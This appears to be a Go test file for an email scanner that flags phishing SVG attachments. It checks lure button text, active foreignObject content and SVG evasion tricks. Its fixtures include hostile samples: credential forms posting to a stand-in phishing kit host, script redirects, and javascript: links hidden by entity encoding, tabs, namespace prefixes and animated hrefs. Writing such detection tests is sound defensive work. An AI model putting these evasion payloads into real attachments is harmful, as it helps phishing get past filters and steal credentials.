package attach

import (
	"bytes"
	"compress/gzip"
	"strings"
	"testing"
	"time"
)

// TestSVGLinkAsk: the words a link-only SVG lure puts on its button ask
// to open, view, play or sign a document, a message or an invoice; a
// logo's, a diagram's or a badge's words do not.
func TestSVGLinkAsk(t *testing.T) {
	for text, want := range map[string]string{
		"Ouvrir le document":                   "ouvrir le document",
		"▶ Écouter le message":                 "écouter le message",
		"REVIEW DOCUMENT":                      "review document",
		"Play audio":                           "play audio",
		"Consulter et signer le document":      "consulter et signer le document",
		"Voir la facture F-2026-1187":          "voir la facture",
		"Listen to the voicemail (0:42)":       "listen to the voicemail",
		"Télécharger l'avis de paiement":       "télécharger l'avis de paiement",
		"View the secure PDF":                  "view the secure pdf",
		"Studio Lumière Voir le portfolio":     "",
		"Pare-feu pfSense (documentation)":     "",
		"Voir la documentation":                "",
		"pipeline passed":                      "",
		"Direction générale":                   "",
		"Source : SDES, Sit@del2":              "",
		"Obtenir les données":                  "",
		"Text is not SVG - cannot display":     "",
		"Ouvrir le plan de la salle des fêtes": "",
		"open source document management tool": "",
	} {
		if got := svgLinkAsk(text); got != want {
			t.Errorf("svgLinkAsk(%q) = %q, want %q", text, got, want)
		}
	}
}

// TestActiveForeignObject: a foreignObject that only lays out text, as
// draw.io writes its labels, is no active content; one that holds a
// form, a field, a frame, a link or an event handler is.
func TestActiveForeignObject(t *testing.T) {
	drawio := `<svg><g><switch><foreignobject pointer-events="none" width="100%" height="100%" requiredfeatures="http://www.w3.org/tr/svg11/feature#extensibility"><div xmlns="http://www.w3.org/1999/xhtml" style="display: flex;"><div style="font-size: 12px;">pare-feu<br />vlan 10</div></div></foreignobject><text x="80" y="154">pare-feu...</text></switch></g></svg>`
	if activeForeignObject([]byte(drawio)) {
		t.Error("draw.io label read as active")
	}
	for _, inner := range []string{
		`<form action="https://kit.example/p"><input type="password"></form>`,
		`<iframe src="https://kit.example/"></iframe>`,
		`<a href="https://kit.example/">ouvrir</a>`,
		`<div onclick="go()">ouvrir</div>`,
		`<object data="https://kit.example/x"></object>`,
		`<meta http-equiv="refresh" content="0;url=https://kit.example/">`,
	} {
		svg := `<svg><foreignobject width="100" height="100"><div>texte</div></foreignobject><foreignobject>` + inner + `</foreignobject></svg>`
		if !activeForeignObject([]byte(svg)) {
			t.Errorf("%s: not read as active", inner)
		}
		// Unclosed, as a browser still renders it.
		if !activeForeignObject([]byte(`<svg><foreignobject>` + inner)) {
			t.Errorf("%s unclosed: not read as active", inner)
		}
	}
}

// TestSVGActiveAsXMLWritesIt: what a browser, reading the SVG as XML,
// runs or submits is read whatever the XML spelling — a namespace prefix
// on the element, a "</foreignObject>" in a comment or a CDATA section or
// a nested foreignObject's end before the form, a javascript: address in
// character references or split by a tab, a link whose address an
// animation sets — and a genuine export's prefixed elements (Inkscape,
// Visio, draw.io's labels) are not.
func TestSVGActiveAsXMLWritesIt(t *testing.T) {
	form := `<form method='post' action='https://kit.example/p'><input type='email' name='e'/></form>`
	for name, svg := range map[string]string{
		"html: prefix":          `<svg><foreignObject><html:div xmlns:html="http://www.w3.org/1999/xhtml"><html:form action='https://kit.example/p'><html:input type='email'/></html:form></html:div></foreignObject></svg>`,
		"svg: prefix":           `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:foreignObject><div>` + form + `</div></svg:foreignObject></svg:svg>`,
		"svg:script":            `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>location='https://kit.example/'</svg:script></svg:svg>`,
		"end in a comment":      `<svg><foreignObject><!-- </foreignObject> --><div>` + form + `</div></foreignObject></svg>`,
		"end in CDATA":          `<svg><foreignObject><div><![CDATA[</foreignObject>]]></div>` + form + `</foreignObject></svg>`,
		"nested end":            `<svg><foreignObject><svg><foreignObject><div>x</div></foreignObject></svg>` + form + `</foreignObject></svg>`,
		"entity javascript:":    `<svg><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;go()"><text>Voir</text></a></svg>`,
		"hex entity javascript": `<svg><a xlink:href="&#x6A;avascript&#x3A;go()"><text>Voir</text></a></svg>`,
		"tab in javascript:":    "<svg><a href=\"java\tscript:go()\"><text>Voir</text></a></svg>",
		"set href":              `<svg><a xlink:href="#"><set attributeName="xlink:href" to="https://kit.example/"/><text>Voir</text></a></svg>`,
		"entity of markup":      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s "&#60;script&#62;go()&#60;/script&#62;">]><svg>&s;</svg>`,
		"entity of a tag":       `<!DOCTYPE svg [<!ENTITY % p "x"><!ENTITY system_f '<foreignObject><form/></foreignObject>'>]><svg>&system_f;</svg>`,
		"animate href":          `<svg><a href="#"><animate attributeName = 'href' values="https://kit.example/" dur="0.01s" fill="freeze"/><text>Voir</text></a></svg>`,
	} {
		lower := unprefixTags(bytes.ToLower([]byte(svg)))
		if !svgActive(lower, runsScript(lower)) {
			t.Errorf("%s: not read as active", name)
		}
	}
	for name, svg := range map[string]string{
		"illustrator": `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/"><!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY st0 "fill:#E30613;">]><svg xmlns="&ns_svg;"><path style="&st0;"/></svg>`,
		"inkscape":    `<svg xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"><sodipodi:namedview inkscape:zoom="1"/><g inkscape:groupmode="layer"><text>Stand A</text></g></svg>`,
		"visio":       `<svg xmlns:v="http://schemas.microsoft.com/visio/2003/SVGExtensions/"><v:documentProperties v:langID="1036"/><a xlink:href="https://intranet.example/rh" xlink:title="RH"><v:custProps><v:cp v:lbl="Nom"/></v:custProps><text>RH</text></a></svg>`,
		"animation":   `<svg><circle r="4"><animate attributeName="r" values="4;8;4" dur="2s" repeatCount="indefinite"/></circle><a href="https://example.org/a&amp;b"><text>Plan</text></a></svg>`,
		"label":       `<svg><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><!-- a comment --><div>pare-feu</div></div></foreignObject><a xlink:href="https://docs.example/"><rect/></a></svg>`,
	} {
		lower := unprefixTags(bytes.ToLower([]byte(svg)))
		if svgActive(lower, runsScript(lower)) {
			t.Errorf("%s: read as active", name)
		}
	}
}

// FuzzSVGReading: any text, any SVG bytes: no panic, bounded time, and
// the words returned are a part of the text read.
func FuzzSVGReading(f *testing.F) {
	f.Add("Ouvrir le document", []byte(`<svg><foreignobject><form></form></foreignobject></svg>`))
	f.Add(strings.Repeat("voir ", 300)+"facture", []byte(strings.Repeat("<foreignobject>", 100)))
	f.Add("Voir la facture", []byte(`<svg:svg><svg:foreignObject><!-- </foreignObject> --><html:form/></svg:foreignObject><a href="&#106;ava&#9;script:x"><set attributeName="href" to="https://x"/></a></svg:svg>`))
	f.Fuzz(func(t *testing.T, text string, svg []byte) {
		start := time.Now()
		if w := svgLinkAsk(text); w != "" && len(w) > maxSVGLinkText*2 {
			t.Errorf("%d bytes of words from %d bytes", len(w), len(text))
		}
		lowered := bytes.ToLower(svg)
		lower := unprefixTags(lowered)
		if len(lower) > len(lowered) {
			t.Errorf("unprefixed %d bytes into %d", len(lowered), len(lower))
		}
		svgActive(lower, runsScript(lower))
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("%v", d)
		}
	})
}

// TestSVGZActive: a compressed SVG is judged inflated.
func TestSVGZActive(t *testing.T) {
	var z bytes.Buffer
	w := gzip.NewWriter(&z)
	w.Write([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://kit.example/"</script></svg>`))
	w.Close()
	out, _, _ := judge(t, map[string][]byte{"Document.svgz": z.Bytes()})
	if !out.Emitted("ATTACH_SVG_ACTIVE") {
		t.Errorf("signals %+v", out)
	}
}
